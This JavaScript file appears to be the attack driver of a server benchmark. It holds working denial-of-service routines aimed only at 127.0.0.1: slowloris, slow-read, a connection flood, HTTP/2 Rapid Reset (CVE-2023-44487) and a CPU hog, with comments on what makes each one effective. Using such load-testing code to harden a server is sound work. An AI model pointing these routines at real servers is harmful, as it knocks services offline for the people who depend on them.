// bench/hostile's attackers, one per child process: `node bench/hostile-attack.mjs '<json>'` with
// { mode, port, seconds, count, addresses, path, ca, h2frames }. Every attack targets 127.0.0.1 only, ends by itself
// after `seconds` (the bench also stops it by pid), prints `{"ready":true,...}` once its connections are up, and a
// last JSON line with what it did. Modes:
//   slowloris  `count` connections, each sending a request head one byte at a time (each connection a byte a second),
//              never finishing it; a connection the server closes is opened again after 1 s.
//   slowread   `count` connections, each asking for `path` (a large file) and then reading one byte every 2 s (a
//              1-byte read buffer, so the kernel's receive window stays shut); reopened after 1 s when closed.
//   flood      `count` loops, each opening a connection, sending one request with Connection: close, waiting for the
//              server to close, and starting again at once. The request is written without ending the connection, so
//              the server closes first and the TIME_WAIT state stays on its side, as with a real client: had the
//              attacker closed first, its own ports would sit in TIME_WAIT, and after a round or two of tens of
//              thousands of connections it could hardly open any (measured: 30k connections in a first round, 1-3k
//              in the next ones, a flood that faded on its own).
//   cpuhog     no connection: a busy loop, the control row. It shows what sharing the load CPU with an attacker costs
//              the good client by itself, whatever the server does.
//   rapidreset `count` HTTP/2 connections over TLS, each opening streams and cancelling them at once (CVE-2023-44487)
//              until the server sends GOAWAY or closes, then a new connection; the frames come from
//              test/e2e/h2-frames.ts, bundled by the bench into `h2frames`.
// `addresses`: the local addresses the connections come from (127.0.0.2 and up: not corral's trusted proxy 127.0.0.1,
// so its per-address cap applies), spread round-robin. The HTTP/2 client connects from 127.0.0.1.
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { pathToFileURL } from 'node:url';

const options = JSON.parse(process.argv[2] ?? '{}');
const { mode, port, seconds, count, addresses = ['127.0.0.1'], path = '/' } = options;
const deadline = Date.now() + seconds * 1000;
const stats = { mode, opened: 0, closedByServer: 0, errors: 0, requests: 0, bytesRead: 0, streams: 0 };
const sockets = new Set();
let stopping = false;
let next = 0;
const address = () => addresses[next++ % addresses.length];

function report(extra = {}) {
  process.stdout.write(`${JSON.stringify({ ...stats, open: sockets.size, ...extra })}\n`);
}

function finish() {
  if (stopping) return;
  stopping = true;
  for (const socket of sockets) socket.destroy();
  report({ done: true });
  // The HTTP/2 loops may hold a TLS write; nothing else needs waiting for.
  setTimeout(() => process.exit(0), 50).unref();
}
process.on('SIGTERM', finish);
setTimeout(finish, Math.max(0, deadline - Date.now()));

/** Opens a socket that is counted and forgotten on close; `onClose` runs unless the attack is over. */
function open(socketOptions, onConnect, onClose) {
  const socket = connect({ host: '127.0.0.1', port, localAddress: address(), ...socketOptions });
  stats.opened++;
  sockets.add(socket);
  socket.setNoDelay(true);
  socket.once('connect', () => onConnect(socket));
  socket.on('error', () => stats.errors++);
  socket.once('close', () => {
    sockets.delete(socket);
    if (stopping) return;
    stats.closedByServer++;
    onClose();
  });
  return socket;
}

/** Opens `count` connections in batches of 100 per tick, then reports ready. */
function ramp(openOne) {
  let started = 0;
  const batch = () => {
    for (let i = 0; i < 100 && started < count && !stopping; i++, started++) openOne();
    if (started < count) setImmediate(batch);
  };
  batch();
  const readyAt = Date.now();
  const check = setInterval(() => {
    if (sockets.size >= count * 0.95 || Date.now() - readyAt > 3000) {
      clearInterval(check);
      report({ ready: true });
    }
  }, 50);
}

function slowloris() {
  const head = Buffer.from('GET /?slowloris HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n', 'latin1');
  const pad = Buffer.from('X-Trickle: aaaaaaaaaaaaaaaa\r\n', 'latin1');
  /** Connected socket -> [its slot 0-9, the bytes it has sent]. */
  const trickling = new Map();
  let slot = 0;
  const openOne = () =>
    open(
      {},
      (socket) => trickling.set(socket, [slot++ % 10, 0]),
      () => setTimeout(openOne, 1000),
    );
  ramp(openOne);
  // Every 100 ms the connections of one slot in ten send their next byte: one byte a second each.
  let turn = 0;
  setInterval(() => {
    for (const [socket, state] of trickling) {
      if (socket.destroyed) trickling.delete(socket);
      else if (state[0] === turn % 10) {
        const at = state[1]++;
        socket.write(
          at < head.length ? head.subarray(at, at + 1) : pad.subarray((at - head.length) % pad.length).subarray(0, 1),
        );
      }
    }
    turn++;
  }, 100);
}

function slowread() {
  const request = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowread\r\n\r\n`, 'latin1');
  const paused = [];
  const openOne = () => {
    const socket = open(
      {
        // One byte per read, and a pause after each: the receive buffer fills once and then drains a byte at a time.
        onread: {
          buffer: Buffer.alloc(1),
          callback: (n) => {
            stats.bytesRead += n;
            paused.push(socket);
            return false;
          },
        },
      },
      (s) => {
        stats.requests++;
        s.write(request);
      },
      () => setTimeout(openOne, 1000),
    );
  };
  ramp(openOne);
  // Every 100 ms, a twentieth of the paused connections reads one more byte: each about one byte every 2 s.
  setInterval(() => {
    const slice = paused.splice(0, Math.ceil(paused.length / 20));
    for (const socket of slice) if (!socket.destroyed) socket.resume();
  }, 100);
}

function flood() {
  const request = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`, 'latin1');
  const loop = () => {
    if (stopping) return;
    const socket = connect({ host: '127.0.0.1', port, localAddress: address() });
    stats.opened++;
    sockets.add(socket);
    socket.once('connect', () => socket.write(request));
    socket.on('data', () => {});
    socket.on('error', () => stats.errors++);
    socket.once('close', () => {
      sockets.delete(socket);
      stats.requests++;
      if (!stopping) setImmediate(loop);
    });
  };
  for (let i = 0; i < count; i++) loop();
  setTimeout(() => report({ ready: true }), 500);
}

async function rapidreset() {
  const { rawH2, rapidReset } = await import(pathToFileURL(options.h2frames).href);
  const ca = readFileSync(options.ca, 'utf8');
  const loop = async () => {
    while (!stopping) {
      let client;
      try {
        client = await rawH2(port, ca, '127.0.0.1', address());
      } catch {
        stats.errors++;
        await new Promise((resolve) => setTimeout(resolve, 50));
        continue;
      }
      stats.opened++;
      sockets.add(client.socket);
      // At most 20,000 streams per connection: the attacker's own write buffer stays bounded.
      stats.streams += await rapidReset(client, `localhost:${port}`, 20_000, 50, path);
      if (client.received.goaway !== undefined || client.received.closed) stats.closedByServer++;
      client.close();
      sockets.delete(client.socket);
    }
  };
  for (let i = 0; i < count; i++) void loop();
  setTimeout(() => report({ ready: true }), 1000);
}

function cpuhog() {
  // Slices of 50 ms, so that SIGTERM and the deadline are still heard.
  const spin = () => {
    if (stopping) return;
    const end = performance.now() + 50;
    while (performance.now() < end);
    setImmediate(spin);
  };
  spin();
  setTimeout(() => report({ ready: true }), 500);
}

const modes = { slowloris, slowread, flood, rapidreset, cpuhog };
if (!(mode in modes)) {
  process.stderr.write(`unknown mode ${mode}\n`);
  process.exit(2);
}
modes[mode]();
